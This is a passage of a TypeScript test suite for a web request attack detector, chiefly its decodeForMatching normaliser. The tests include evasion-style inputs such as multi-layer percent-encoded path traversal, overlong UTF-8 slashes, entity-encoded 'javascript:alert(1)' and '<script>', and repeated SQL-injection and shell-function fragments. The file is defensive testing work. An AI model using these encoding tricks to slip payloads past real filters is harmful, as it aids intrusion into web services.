    for (const cases of Object.values(CASES)) {
      for (const [field, text] of cases.hit) expect(passesPrefilter(field, decodeForMatching(text)), `${field}: ${text}`).toBe(true);
    }
  });

  it('rules stay quick on long hostile input (finishes; no timing asserted)', () => {
    const nasty = [
      `/x?q=${'<a '.repeat(5000)}`, `/x?q=${"' or ".repeat(5000)}`, `/x?q=${'${'.repeat(5000)}`,
      `/x?q=${'%25'.repeat(5000)}`, `/x?q=${'union/**/'.repeat(3000)}`, `/x?q=${'../'.repeat(5000)}`,
      `/x?q=${'() {'.repeat(5000)}`, `/x?q=${';'.repeat(10000)}`, `/x?q=${'a'.repeat(50000)}%00`,
    ];
    for (const text of nasty) {
      for (const field of ['url', 'ua', 'referer'] as const) expect(Array.isArray(detectInText(field, text))).toBe(true);
    }
  });
});

describe('decodeForMatching', () => {
  it.each([
    ['%2e%2e%2f', '../'],
    ['%252e%252e%252f', '../'],
    ['%25252e%25252e%25252f', '../'],
    ['%2525252e', '%2e'], // four layers: three rounds only
    ['..%c0%af', '../'],
    ['..%C0%AE%c0%ae%c0%af', '..../'],
    ['%e0%80%af', '/'],
    ['%c1%9c', '\\'],
    ['%u002e%u002E%u2215%u2216', '../\\'],
    ['%uff0e%uff0e%uff0f', '../'],
    ['%E2%82%AC', '€'],
    ['%F0%9F%98%80', '😀'],
    ['/a+b?q=a+b', '/a+b?q=a b'],
    ['/a?q=%2B', '/a?q=+'],
    ['a+b', 'a+b'],
    ['&lt;script&gt;', '<script>'],
    ['&quot;x&#x27;&#39;&apos;', `"x'''`],
    ['&#60;&#x3C;&#0000060', '<<<'],
    ['&amp;lt;', '<'],
    ['%26lt%3Bimg%26gt%3B', '<img>'],
    ['?gt=5&lt=10', '?gt=5&lt=10'],
    ['javascript&colon;alert&lpar;1&rpar;', 'javascript:alert(1)'],
    ['&nbsp;&copy;', '&nbsp;&copy;'],
    ['..\\..\\', '..\\..\\'],
    ['%5c', '\\'],
    ['%00', '\u0000'],
    ['plain text', 'plain text'],
    ['', ''],
  ])('%s → %s', (input, want) => {
    expect(decodeForMatching(input)).toBe(want);
  });

  it('leaves malformed escapes as they are', () => {
    expect(decodeForMatching('%')).toBe('%');
    expect(decodeForMatching('%zz')).toBe('%zz');
    expect(decodeForMatching('100%')).toBe('100%');
    expect(decodeForMatching('%E0%A4%A')).toBe('%E0%A4%A');
    expect(decodeForMatching('%E0%A4%A4')).toBe('\u0924');
    expect(decodeForMatching('%E9t%E9')).toBe('%E9t%E9');
    expect(decodeForMatching('%u12')).toBe('%u12');
    expect(decodeForMatching('%u12zz')).toBe('%u12zz');
    expect(decodeForMatching('&#99999999;&#0;&#xD800;&bogus;')).toBe('&#99999999;&#0;&#xD800;&bogus;');
    expect(decodeForMatching('%%41')).toBe('%A');
  });

  it('never throws, whatever it is given', () => {
    const inputs = [
      '%', '%%', '%%%', '%zz', '%E0%A4%A', '%F4%90%80%80', '%ED%A0%80', '%C0', '%FF%FE', '%u', '%uD800',
      '%uDC00%uD800', '&#', '&#x;', '&;', '\u0000\uFFFF\uD800', '%'.repeat(100_000), '%2'.repeat(50_000),
      '%25'.repeat(50_000), '&amp;'.repeat(20_000), 'a+'.repeat(50_000), `?${'%C0%AF'.repeat(20_000)}`,
    ];
    let seed = 7;
    for (let i = 0; i < 200; i++) {
      let s = '';
      for (let k = 0; k < 64; k++) { seed = (seed * 1103515245 + 12345) >>> 0; s += '%&#;xu0123456789abcdefABCDEF+?.\\/'[seed % 33]; }
      inputs.push(s);
    }
    for (const text of inputs) expect(() => decodeForMatching(text)).not.toThrow();
    expect(decodeForMatching('%'.repeat(100_000))).toHaveLength(100_000);
  });
});
